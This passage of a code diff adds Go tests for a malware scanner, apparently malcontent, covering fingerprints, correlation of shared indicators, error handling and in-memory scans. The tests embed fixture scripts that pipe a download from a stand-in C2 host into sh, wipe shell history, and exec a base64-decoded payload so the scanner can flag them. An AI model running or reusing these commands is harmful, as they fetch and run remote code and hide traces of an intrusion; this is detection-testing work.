+			if _, _, err := loadOrCompileRules(ctx, fss, cacheFile); err != nil {
+				b.Fatal(err)
+			}
+		}
+	})
+}
+
+func TestScanFingerprint(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	script := []byte("#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\n")
+	tree := func() string {
+		root := t.TempDir()
+		if err := os.Mkdir(filepath.Join(root, "sub"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(root, "sub", "payload.sh"), script, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		return root
+	}
+
+	fingerprints := func(root string) map[string]string {
+		res, err := Scan(ctx, malcontent.Config{
+			Concurrency: 1,
+			Fingerprint: true,
+			NoCache:     true,
+			Rules:       yrs,
+			ScanPaths:   []string{root},
+		})
+		if err != nil {
+			t.Fatalf("scan: %v", err)
+		}
+		got := map[string]string{}
+		res.Files.Range(func(_, value any) bool {
+			if fr, ok := value.(*malcontent.FileReport); ok {
+				for _, b := range fr.Behaviors {
+					got[b.ID] = b.Fingerprint
+				}
+			}
+			return true
+		})
+		return got
+	}
+
+	root := tree()
+	first := fingerprints(root)
+	if len(first) == 0 {
+		t.Fatalf("no behaviors found in %s", root)
+	}
+	for id, fp := range first {
+		if len(fp) != 64 {
+			t.Errorf("%s fingerprint = %q, want a SHA256", id, fp)
+		}
+	}
+
+	// The same finding keeps its fingerprint in later scans, and when the tree moves
+	if again := fingerprints(root); !reflect.DeepEqual(again, first) {
+		t.Errorf("second scan fingerprints = %v, want %v", again, first)
+	}
+	if moved := fingerprints(tree()); !reflect.DeepEqual(moved, first) {
+		t.Errorf("moved tree fingerprints = %v, want %v", moved, first)
+	}
+}
+
+func TestFingerprintPath(t *testing.T) {
+	t.Parallel()
+	root := t.TempDir()
+	file := filepath.Join(root, "sub", "payload.sh")
+
+	tests := []struct {
+		name     string
+		c        malcontent.Config
+		path     string
+		scanPath string
+		want     string
+	}{
+		{"below scan path", malcontent.Config{}, file, root, "sub/payload.sh"},
+		{"scan path is the file", malcontent.Config{}, file, file, "payload.sh"},
+		{"archive member", malcontent.Config{}, file + ".zip ∴ /inner/a.sh", root, "sub/payload.sh.zip ∴ /inner/a.sh"},
+		{"outside scan path", malcontent.Config{}, "/elsewhere/a.sh", root, "/elsewhere/a.sh"},
+		{"relative to", malcontent.Config{RelativeTo: root}, "sub/payload.sh", root, "sub/payload.sh"},
+		{"stdin", malcontent.Config{}, stdinName, "", stdinName},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			if got := fingerprintPath(tt.c, tt.path, tt.scanPath); got != tt.want {
+				t.Errorf("fingerprintPath(%q, %q) = %q, want %q", tt.path, tt.scanPath, got, tt.want)
+			}
+		})
+	}
+}
+
+func TestScanModifiedSince(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	script := []byte("#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\n")
+	since := time.Now().Add(-time.Hour)
+	for name, mtime := range map[string]time.Time{
+		"old.sh": since.Add(-24 * time.Hour),
+		"new.sh": since.Add(time.Minute),
+	} {
+		path := filepath.Join(root, name)
+		if err := os.WriteFile(path, script, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.Chtimes(path, mtime, mtime); err != nil {
+			t.Fatal(err)
+		}
+	}
+	archive := filepath.Join(root, "bundle.zip")
+	writeZip(t, archive, map[string][]byte{"inner/payload.sh": script})
+	old := since.Add(-time.Minute)
+	if err := os.Chtimes(archive, old, old); err != nil {
+		t.Fatal(err)
+	}
+
+	paths := func() []string {
+		res, err := Scan(ctx, malcontent.Config{
+			Concurrency:   1,
+			ModifiedSince: since,
+			NoCache:       true,
+			RelativeTo:    root,
+			Rules:         yrs,
+			ScanPaths:     []string{root},
+		})
+		if err != nil {
+			t.Fatalf("scan: %v", err)
+		}
+		var got []string
+		res.Files.Range(func(_, value any) bool {
+			if fr, ok := value.(*malcontent.FileReport); ok {
+				got = append(got, fr.Path)
+			}
+			return true
+		})
+		slices.Sort(got)
+		return got
+	}
+
+	if got, want := paths(), []string{"new.sh"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("scanned %q, want only %q", got, want)
+	}
+
+	// Members of a changed archive are scanned whatever their own mtimes
+	if err := os.Chtimes(archive, time.Now(), time.Now()); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := paths(), []string{"bundle.zip ∴ /inner/payload.sh", "new.sh"}; !reflect.DeepEqual(got, want) {
+		t.Errorf("scanned %q, want %q", got, want)
+	}
+}
+
+func TestScanLogger(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	want := map[string]bool{}
+	for i := range 16 {
+		path := filepath.Join(root, fmt.Sprintf("data%02d", i))
+		if err := os.WriteFile(path, bytes.Repeat([]byte{0x01, 0x02, byte(i)}, 64), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		want[path] = true
+	}
+
+	// The JSON handler serializes the writes of concurrent workers
+	var buf bytes.Buffer
+	logger := slog.New(slog.NewJSONHandler(&buf, &slog.HandlerOptions{Level: slog.LevelDebug}))
+	if _, err := Scan(ctx, malcontent.Config{
+		Concurrency: 4,
+		Logger:      logger,
+		NoCache:     true,
+		Rules:       yrs,
+		ScanPaths:   []string{root},
+	}); err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	got := map[string]bool{}
+	for _, line := range bytes.Split(bytes.TrimSpace(buf.Bytes()), []byte("\n")) {
+		var rec struct {
+			Msg    string `json:"msg"`
+			Path   string `json:"path"`
+			Reason string `json:"reason"`
+		}
+		if err := json.Unmarshal(line, &rec); err != nil {
+			t.Fatalf("log line %q: %v", line, err)
+		}
+		if rec.Msg == "skipping file" && rec.Reason == "data file or empty" {
+			got[rec.Path] = true
+		}
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("logged skipped files %v, want %v", slices.Sorted(maps.Keys(got)), slices.Sorted(maps.Keys(want)))
+	}
+}
+
+func TestCorrelate(t *testing.T) {
+	t.Parallel()
+	rep := &malcontent.Report{}
+	for _, fr := range []*malcontent.FileReport{
+		{Path: "a/dropper.sh", Behaviors: []*malcontent.Behavior{
+			{ID: "net/url/embedded", MatchStrings: []string{"evil-c2.example.com", "https://github.com"}},
+			{ID: "credential/token", MatchStrings: []string{report.RedactedMask}},
+		}},
+		{Path: "b/stage2.py", Behaviors: []*malcontent.Behavior{
+			{ID: "net/url/embedded", MatchStrings: []string{"https://github.com"}},
+			{ID: "net/dns/hardcoded", MatchStrings: []string{"evil-c2.example.com"}},
+			{ID: "credential/token", MatchStrings: []string{report.RedactedMask}},
+		}},
+		{Path: "c/miner.js", Behaviors: []*malcontent.Behavior{
+			{ID: "crypto/wallet", MatchStrings: []string{"evil-c2.example.com", "44AFFq5kSiGBoZ"}},
+		}},
+		{Path: "d/skipped.sh", Skipped: "data file or empty", Behaviors: []*malcontent.Behavior{
+			{ID: "crypto/wallet", MatchStrings: []string{"44AFFq5kSiGBoZ"}},
+		}},
+	} {
+		rep.Files.Store(fr.Path, fr)
+	}
+
+	want := []malcontent.Correlation{
+		{
+			MatchString: "evil-c2.example.com",
+			Paths:       []string{"a/dropper.sh", "b/stage2.py", "c/miner.js"},
+			RuleIDs:     []string{"crypto/wallet", "net/dns/hardcoded", "net/url/embedded"},
+		},
+		{
+			MatchString: "https://github.com",
+			Paths:       []string{"a/dropper.sh", "b/stage2.py"},
+			RuleIDs:     []string{"net/url/embedded"},
+		},
+	}
+	if got := correlate(rep); !reflect.DeepEqual(got, want) {
+		t.Errorf("correlate() = %+v, want %+v", got, want)
+	}
+}
+
+func TestScanCorrelate(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	for name, content := range map[string]string{
+		"dropper.sh": "#!/bin/sh\ncurl -sSL http://evil-c2.example.com/payload | sh\n",
+		"stage2.sh":  "#!/bin/sh\nwget -q -O /tmp/x http://evil-c2.example.com/payload && chmod 777 /tmp/x\n",
+	} {
+		if err := os.WriteFile(filepath.Join(root, name), []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency: 2,
+		Correlate:   true,
+		NoCache:     true,
+		RelativeTo:  root,
+		Rules:       yrs,
+		ScanPaths:   []string{root},
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	for _, cr := range res.Correlations {
+		if strings.Contains(cr.MatchString, "evil-c2.example.com") {
+			if want := []string{"dropper.sh", "stage2.sh"}; !reflect.DeepEqual(cr.Paths, want) {
+				t.Errorf("%q found in %q, want %q", cr.MatchString, cr.Paths, want)
+			}
+			return
+		}
+	}
+	t.Errorf("correlations %+v do not include the shared C2 domain", res.Correlations)
+}
+
+func TestScanErrors(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	rfs := []fs.FS{rules.FS, thirdparty.FS}
+	yrs, err := CachedRules(ctx, rfs)
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	dir := t.TempDir()
+	data := compressedTar(t, ".tar.xz", "run.sh", bytes.Repeat([]byte("#!/bin/sh\n"), 1024))
+	for i := len(data) / 2; i < len(data); i++ {
+		data[i] ^= 0xff
+	}
+	corrupt := filepath.Join(dir, "corrupt.tar.xz")
+	if err := os.WriteFile(corrupt, data, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	readable := filepath.Join(dir, "run.sh")
+	if err := os.WriteFile(readable, []byte("#!/bin/sh\necho hello\n"), 0o700); err != nil {
+		t.Fatal(err)
+	}
+	unreadable := filepath.Join(dir, "secret.sh")
+	if err := os.WriteFile(unreadable, []byte("#!/bin/sh\necho secret\n"), 0o000); err != nil {
+		t.Fatal(err)
+	}
+
+	want := []malcontent.ScanError{{Path: corrupt, Phase: malcontent.ScanPhaseExtract}}
+	// Permissions do not keep root from reading the file
+	if os.Geteuid() != 0 {
+		want = append(want, malcontent.ScanError{Path: unreadable, Phase: malcontent.ScanPhaseRead})
+	}
+
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency: runtime.NumCPU(),
+		Rules:       yrs,
+		ScanPaths:   []string{dir},
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	got := make([]malcontent.ScanError, 0, len(res.Errors))
+	for _, e := range res.Errors {
+		if e.Error == "" {
+			t.Errorf("%s: no error message", e.Path)
+		}
+		got = append(got, malcontent.ScanError{Path: e.Path, Phase: e.Phase})
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("Errors = %v, want %v", got, want)
+	}
+	if res.Stats.Errors != len(want) {
+		t.Errorf("Stats.Errors = %d, want %d", res.Stats.Errors, len(want))
+	}
+	// The scan carries on with the other files
+	if _, ok := res.Files.Load(readable); !ok {
+		t.Errorf("no report for %s", readable)
+	}
+	if os.Geteuid() != 0 {
+		v, ok := res.Files.Load(unreadable)
+		if fr, _ := v.(*malcontent.FileReport); !ok || fr.Skipped != errMsgReadFailed {
+			t.Errorf("%s: got %+v, want a %q skip", unreadable, v, errMsgReadFailed)
+		}
+	}
+
+	// Interactive scans render as they go, but still list the errors
+	res, err = Scan(ctx, malcontent.Config{
+		Concurrency: runtime.NumCPU(),
+		Renderer:    interactiveRenderer{},
+		Rules:       yrs,
+		ScanPaths:   []string{dir},
+	})
+	if err != nil {
+		t.Fatalf("interactive scan: %v", err)
+	}
+	got = got[:0]
+	for _, e := range res.Errors {
+		got = append(got, malcontent.ScanError{Path: e.Path, Phase: e.Phase})
+	}
+	if !slices.Equal(got, want) {
+		t.Errorf("interactive Errors = %v, want %v", got, want)
+	}
+}
+
+// interactiveRenderer is named like the interactive renderer, and renders nothing.
+type interactiveRenderer struct{}
+
+func (interactiveRenderer) Name() string                                       { return "Interactive" }
+func (interactiveRenderer) Scanning(context.Context, string)                   {}
+func (interactiveRenderer) File(context.Context, *malcontent.FileReport) error { return nil }
+func (interactiveRenderer) Full(context.Context, *malcontent.Config, *malcontent.Report) error {
+	return nil
+}
+
+// unreadableFS is a fstest.MapFS whose file named name cannot be read.
+type unreadableFS struct {
+	fstest.MapFS
+	name string
+}
+
+func (f unreadableFS) ReadFile(name string) ([]byte, error) {
+	if name == f.name {
+		return nil, &fs.PathError{Op: "read", Path: name, Err: fs.ErrPermission}
+	}
+	return f.MapFS.ReadFile(name)
+}
+
+func TestScanFS(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	files := fstest.MapFS{
+		"bin/install.sh": {Data: []byte("#!/bin/sh\ncurl -s http://example.com/x | sh\nchmod +x /tmp/x\nrm -rf ~/.bash_history\n")},
+		"bin/hello.sh":   {Data: []byte("#!/bin/sh\necho hello\n")},
+		"lib/loader.py":  {Data: []byte("import base64, os\nexec(base64.b64decode(os.environ['PAYLOAD']))\n")},
+	}
+
+	// The same files scanned from disk give the same reports, relative to their directory
+	dir := t.TempDir()
+	for name, f := range files {
+		p := filepath.Join(dir, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, f.Data, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	disk, err := Scan(ctx, malcontent.Config{Concurrency: 2, RelativeTo: dir, Rules: yrs, ScanPaths: []string{dir}})
+	if err != nil {
+		t.Fatalf("scan disk: %v", err)
+	}
+	mem, err := Scan(ctx, malcontent.Config{Concurrency: 2, Rules: yrs, ScanFS: files, ScanPaths: []string{"/"}})
+	if err != nil {
+		t.Fatalf("scan fs: %v", err)
+	}
+
+	reports := func(r *malcontent.Report) map[string]*malcontent.FileReport {
+		m := map[string]*malcontent.FileReport{}
+		r.Files.Range(func(k, v any) bool {
+			m[k.(string)] = v.(*malcontent.FileReport)
+			return true
+		})
+		return m
+	}
+	got, want := reports(mem), reports(disk)
+	if !slices.Equal(slices.Sorted(maps.Keys(got)), slices.Sorted(maps.Keys(files))) {
+		t.Errorf("scanned %v, want %v", slices.Sorted(maps.Keys(got)), slices.Sorted(maps.Keys(files)))
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("ScanFS reports differ from the reports of the same files on disk:\n got: %+v\nwant: %+v", got, want)
+	}
+
+	// Scan paths name directories within the FS, and unreadable files are reported as errors
+	sub, err := Scan(ctx, malcontent.Config{
+		Concurrency: 2,
+		Rules:       yrs,
+		ScanFS:      unreadableFS{MapFS: files, name: "bin/hello.sh"},
+		ScanPaths:   []string{"bin/"},
+	})
+	if err != nil {
+		t.Fatalf("scan bin: %v", err)
+	}
+	if keys := slices.Sorted(maps.Keys(reports(sub))); !slices.Equal(keys, []string{"bin/hello.sh", "bin/install.sh"}) {
+		t.Errorf("scanned %v, want bin/hello.sh and bin/install.sh", keys)
+	}
+	if len(sub.Errors) != 1 || sub.Errors[0].Path != "bin/hello.sh" || sub.Errors[0].Phase != malcontent.ScanPhaseRead {
+		t.Errorf("Errors = %v, want a read error for bin/hello.sh", sub.Errors)
+	}
+
+	if _, err := Scan(ctx, malcontent.Config{Rules: yrs, ScanFS: files, ScanPaths: []string{"missing"}}); err == nil {
+		t.Error("scan of a missing path succeeded, want error")
+	}
+}
+
+func TestListOnly(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	dir := t.TempDir()
+	archive, err := os.ReadFile("testdata/apko.tar.gz")
+	if err != nil {
+		t.Fatal(err)
+	}
+	files := map[string][]byte{
+		"run.sh":      []byte("#!/bin/sh\ncurl -s http://example.com/x | sh\n"),
+		"blob":        {0x00, 0x01, 0x02, 0x03, 0xfe, 0xff},
+		"empty.sh":    nil,
+		"notes.txt":   []byte("#!/bin/sh\necho excluded\n"),
+		"apko.tar.gz": archive,
+	}
+	for name, data := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	for _, tc := range []struct {
+		name             string
+		includeDataFiles bool
+		want             []string
+	}{
+		{"default", false, []string{"apko.tar.gz", "run.sh"}},
+		{"include data files", true, []string{"apko.tar.gz", "blob", "run.sh"}},
+	} {
+		var out bytes.Buffer
+		r, err := render.New("json", &out)
+		if err != nil {
+			t.Fatalf("render: %v", err)
+		}
+		res, err := Scan(ctx, malcontent.Config{
+			Concurrency:       2,
+			ExcludeExtensions: []string{".txt"},
+			IncludeDataFiles:  tc.includeDataFiles,
+			ListOnly:          true,
+			MinFileRisk:       malcontent.RiskHigh,
+			Renderer:          r,
+			Rules:             yrs,
+			ScanPaths:         []string{dir},
+		})
+		if err != nil {
+			t.Fatalf("%s: scan: %v", tc.name, err)
+		}
+
+		fl := ListFiles(res)
+		got := make([]string, 0, len(fl.Files))
+		var total int64
+		for _, f := range fl.Files {
+			got = append(got, filepath.Base(f.Path))
+			if want := int64(len(files[filepath.Base(f.Path)])); f.Size != want {
+				t.Errorf("%s: %s size = %d, want %d", tc.name, f.Path, f.Size, want)
+			}
+			total += f.Size
+		}
+		// Archives are listed rather than extracted
+		if !slices.Equal(got, tc.want) {
+			t.Errorf("%s: listed %v, want %v", tc.name, got, tc.want)
+		}
+		if fl.TotalBytes != total {
+			t.Errorf("%s: TotalBytes = %d, want %d", tc.name, fl.TotalBytes, total)
+		}
+		if out.Len() > 0 {
+			t.Errorf("%s: rendered %q while listing", tc.name, out.String())
+		}
+	}
+}
+
+func TestReadContentChecksum(t *testing.T) {
+	t.Parallel()
+	logger := clog.New(slog.Default().Handler())
+
+	// Content is read into pooled buffers, which the first scan creates
+	initializeFilePool(malcontent.Config{Concurrency: runtime.NumCPU()})
+
+	fc := bytes.Repeat([]byte("#!/bin/sh\necho hello\n"), 10000)
+	p := filepath.Join(t.TempDir(), "run.sh")
+	if err := os.WriteFile(p, fc, 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name string
+		c    malcontent.Config
+		want string
+	}{
+		{"default", malcontent.Config{}, report.Checksum(fc, report.HashSHA256)},
+		{"sha256", malcontent.Config{HashAlgo: report.HashSHA256}, report.Checksum(fc, report.HashSHA256)},
+		// Only SHA256 is hashed while reading; other algorithms are hashed when the report is generated
+		{"xxh3", malcontent.Config{HashAlgo: report.HashXXH3}, ""},
+	}
+	for _, tt := range tests {
+		f, err := os.Open(p)
+		if err != nil {
+			t.Fatal(err)
+		}
+		got, sum, release, err := readContent(tt.c, f, int64(len(fc)), logger)
+		if err != nil {
+			t.Fatalf("%s: readContent: %v", tt.name, err)
+		}
+		if !bytes.Equal(got, fc) {
+			t.Errorf("%s: read %d bytes that differ from the file", tt.name, len(got))
+		}
+		if sum != tt.want {
+			t.Errorf("%s: sum = %q, want %q", tt.name, sum, tt.want)
+		}
+		release()
+		f.Close()
+	}
+}
+
+func BenchmarkReadContentChecksum(b *testing.B) {
+	logger := clog.New(slog.Default().Handler())
+
+	initializeFilePool(malcontent.Config{Concurrency: runtime.NumCPU()})
+
+	fc := make([]byte, 64<<20)
+	for i := range fc {
+		fc[i] = byte(i)
+	}
+	p := filepath.Join(b.TempDir(), "large.bin")
+	if err := os.WriteFile(p, fc, 0o600); err != nil {
+		b.Fatal(err)
+	}
+
+	read := func(b *testing.B, c malcontent.Config) ([]byte, string, func()) {
+		b.Helper()
+		f, err := os.Open(p)
+		if err != nil {
+			b.Fatal(err)
+		}
+		defer f.Close()
+		got, sum, release, err := readContent(c, f, int64(len(fc)), logger)
+		if err != nil {
+			b.Fatal(err)
+		}
+		return got, sum, release
+	}
+
+	// Reading, then hashing the content in a second pass, as reports did before it was hashed while read
+	b.Run("two-pass", func(b *testing.B) {
+		b.SetBytes(int64(len(fc)))
+		for b.Loop() {
+			got, _, release := read(b, malcontent.Config{HashAlgo: report.HashXXH3})
+			report.Checksum(got, report.HashSHA256)
+			release()
+		}
+	})
+	b.Run("one-pass", func(b *testing.B) {
+		b.SetBytes(int64(len(fc)))
+		for b.Loop() {
+			got, sum, release := read(b, malcontent.Config{})
+			report.ChecksumFor(report.WithChecksum(context.Background(), got, "", sum), got, report.HashSHA256)
+			release()
+		}
+	})
+}